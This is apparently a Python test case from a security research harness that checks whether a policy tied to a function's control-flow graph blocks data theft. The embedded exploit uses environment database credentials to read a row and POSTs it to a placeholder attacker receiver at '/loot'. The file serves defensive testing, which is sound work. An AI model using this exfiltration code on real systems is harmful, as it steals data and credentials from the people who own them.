"""Scenario 1a: the exploited function reads the row it may read, and sends it to a server that no policy knows."""

from experiments.attacks.case import Case, Match
from experiments.entries import RECEIVE

CASE = Case(
    name="exfiltrate-row",
    category="scenario-1",
    claim="a row of the database goes to a server that is not in the function's CFG",
    exploits={
        RECEIVE: """
            import os, socket
            import pymysql
            marker = "@REVERSED@"[::-1]
            database = pymysql.connect(host=os.environ["DB_HOST"], port=int(os.environ["DB_PORT"]), user=os.environ["DB_USER"],
                                       password=os.environ["DB_PASSWORD"], database=os.environ["DB_NAME"], autocommit=True)
            cursor = database.cursor()
            cursor.execute("SHOW TABLES LIKE 'photoAssignmentTable'")
            cursor.execute("SELECT rowvalues FROM photoAssignmentTable WHERE rowkey = '200494'")
            row = cursor.fetchone()[0]
            with socket.create_connection(("@RECEIVER@", @RECEIVER_PORT@), timeout=5) as server:
                body = (marker + " " + row).encode()
                head = b"POST /loot HTTP/1.1\\r\\nHost: attacker\\r\\nContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n" % len(body)
                server.sendall(head + body)
                server.recv(100)
        """,
    },
    allowed_first=Match(("mysql",), "select"),
    denied=Match(("connect",), "9999"),
    at_receiver=lambda evidence, marker: evidence.receiver(marker),
)
